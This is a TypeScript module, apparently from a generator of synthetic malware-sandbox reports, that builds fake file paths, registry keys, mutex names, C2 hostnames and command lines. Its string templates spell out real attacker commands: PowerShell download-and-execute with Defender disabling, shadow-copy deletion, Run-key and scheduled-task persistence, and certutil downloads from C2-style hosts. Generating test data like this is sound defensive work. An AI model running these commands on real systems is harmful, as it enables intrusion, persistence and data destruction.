import type { RecordContext } from './RecordContext.js';
import type { Rng } from './Rng.js';
import { vocab } from './vocab.js';

/*
 * Makers of single realistic values (paths, keys, command lines, hosts). They build strings with
 * plain concatenation and native encoders only: the generator has to sustain tens of MB/s.
 */

/** Short random file stem like `tmp3f9a1c` or `invoice_k2j9`. */
export function stem(rng: Rng): string {
  const r = rng.u32().toString(36);
  switch (rng.int(4)) {
    case 0:
      return `tmp${r.slice(0, 5)}`;
    case 1:
      return rng.pick(['invoice_', 'scan_', 'order_', 'setup_', 'update_', 'doc_']) + r.slice(0, 4);
    case 2:
      return r.toUpperCase();
    default:
      return `~DF${r.slice(0, 6).toUpperCase()}`;
  }
}

/** A path under the sandbox user's profile. */
export function userPath(ctx: RecordContext): string {
  const { rng } = ctx;
  return `C:\\Users\\${ctx.user}\\${rng.pick(vocab.userDirs)}\\${stem(rng)}${rng.pick(vocab.extensions)}`;
}

/** A system library or program path. */
export function systemPath(rng: Rng): string {
  return rng.chance(0.7) ? `${rng.pick(vocab.sysDirs)}\\${rng.pick(vocab.dlls)}` : `${rng.pick(vocab.sysDirs)}\\${rng.pick(vocab.exes)}`;
}

/** Any path a sandbox may report as opened (mostly system files, as on real reports). */
export function anyPath(ctx: RecordContext): string {
  const x = ctx.rng.next();
  if (x < 0.6) return systemPath(ctx.rng);
  if (x < 0.95) return userPath(ctx);
  return ctx.samplePath;
}

/** A brace-wrapped upper-case GUID. */
export function guid(rng: Rng): string {
  const h = rng.hex(32).toUpperCase();
  return `{${h.slice(0, 8)}-${h.slice(8, 12)}-${h.slice(12, 16)}-${h.slice(16, 20)}-${h.slice(20)}}`;
}

/** A registry key path. */
export function registryKey(rng: Rng): string {
  const root = rng.pick(vocab.regRoots);
  const x = rng.next();
  if (x < 0.5) return `${root}\\${rng.pick(vocab.regLeaves)}`;
  if (x < 0.8) return `${root}\\${guid(rng)}\\InprocServer32`;
  return `${root}\\${stem(rng)}`;
}

/** A mutex name. */
export function mutexName(rng: Rng): string {
  const x = rng.next();
  if (x < 0.3) return rng.pick(vocab.mutexPrefixes) + rng.u32().toString(16);
  if (x < 0.6) return `Global\\${guid(rng)}`;
  if (x < 0.8)
    return (
      rng.pick([
        'Local\\SM0:',
        'Local\\MSCTF.Asm.Mutex',
        'RasPbFile',
        'DBWinMutex',
        'Local\\RstrMgr-3887CAB8-533F-4C85-B0DC-3E5639F8D511',
      ]) + (rng.chance(0.5) ? `${rng.range(1000, 9999)}:${rng.range(100, 999)}:WilStaging_02` : '')
    );
  return `${stem(rng)}${rng.range(0, 99)}`;
}

/** A service name (well-known or random, as dropped malware services are). */
export function serviceName(rng: Rng): string {
  return rng.chance(0.7) ? rng.pick(vocab.services) : stem(rng);
}

/** A hostname: mostly a shared C2 domain (so hostnames pivot), sometimes a benign one or a fresh one. */
export function hostname(ctx: RecordContext): string {
  const { rng } = ctx;
  const x = rng.next();
  if (x < 0.45) return rng.pickSkewed(ctx.pools.c2Domains);
  if (x < 0.85) return rng.pick(vocab.benignHosts);
  return `${rng.pick(vocab.domainWords)}-${rng.u32().toString(36)}.${rng.pick(vocab.tlds)}`;
}

/** A URL on `host`. */
export function urlOn(rng: Rng, host: string): string {
  const scheme = rng.chance(0.6) ? 'http' : 'https';
  const path = rng.pick(vocab.urlPaths);
  const tail = path.endsWith('/')
    ? `${stem(rng)}${rng.pick(['.exe', '.bin', '.jpg', '.zip', ''])}`
    : rng.chance(0.4)
      ? `?id=${rng.hex(16)}`
      : '';
  return `${scheme}://${host}${path}${tail}`;
}

const PS_WORDS = [
  '$c=New-Object Net.WebClient;',
  "$u='http://",
  'IEX($c.DownloadString($u));',
  'Start-Sleep -s 5;',
  '[Convert]::FromBase64String($d);',
  'Set-MpPreference -DisableRealtimeMonitoring $true;',
  'Add-MpPreference -ExclusionPath C:\\;',
  '$p=[Diagnostics.Process]::Start($f);',
  'Invoke-WebRequest -Uri $u -OutFile $f;',
  '[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null,$null);',
];

/** PowerShell `-EncodedCommand` payload: UTF-16LE base64 of script text, as real ones are. */
export function encodedPowerShell(rng: Rng, approxChars: number): string {
  let script = '';
  // Each script character becomes ~2.7 base64 characters after UTF-16LE + base64.
  const target = Math.max(16, Math.floor(approxChars / 2.7));
  while (script.length < target) script += rng.pick(PS_WORDS);
  return Buffer.from(script.slice(0, target), 'utf16le').toString('base64');
}

/** A command line as a sandbox records it; `long` allows multi-KB encoded payloads. */
export function commandLine(ctx: RecordContext, long = false): string {
  const { rng } = ctx;
  const p = userPath(ctx);
  switch (rng.int(9)) {
    case 0:
      return `powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -EncodedCommand ${encodedPowerShell(rng, long ? rng.range(2000, 20000) : rng.range(80, 600))}`;
    case 1:
      return `"C:\\Windows\\System32\\cmd.exe" /c schtasks /create /tn "${stem(rng)}" /tr "${p}" /sc onlogon /rl highest /f`;
    case 2:
      return `"${ctx.samplePath}" ${rng.chance(0.5) ? '' : `/${rng.pick(['install', 'silent', 'run', 'S'])}`}`.trimEnd();
    case 3:
      return rng.pick([
        'C:\\Windows\\system32\\vssadmin.exe delete shadows /all /quiet',
        'wmic shadowcopy delete',
        'bcdedit /set {default} recoveryenabled No',
        'C:\\Windows\\System32\\wbem\\WMIC.exe computersystem get domain',
      ]);
    case 4:
      return `reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v ${stem(rng)} /t REG_SZ /d "${p}" /f`;
    case 5:
      return `C:\\Windows\\System32\\rundll32.exe "${p}",${rng.pick(['DllRegisterServer', '#1', 'Control_RunDLL', 'StartW'])}`;
    case 6:
      return `certutil.exe -urlcache -split -f ${urlOn(rng, hostname(ctx))} "${p}"`;
    case 7:
      return `C:\\Windows\\system32\\cmd.exe /c ping 127.0.0.1 -n ${rng.range(2, 9)} > nul & del /f /q "${ctx.samplePath}"`;
    default:
      return `${rng.pick(vocab.sysDirs)}\\${rng.pick(vocab.exes)} ${rng.pick(['-k netsvcs -p -s Schedule', '/d /c', '-Embedding', '/quiet /norestart', ''])}`.trimEnd();
  }
}

/** A shell-style command as in `command_executions` (often the same as a created process). */
export function shellCommand(ctx: RecordContext): string {
  return ctx.rng.chance(0.3) ? `%SAMPLEPATH%\\${ctx.sampleName}` : commandLine(ctx);
}
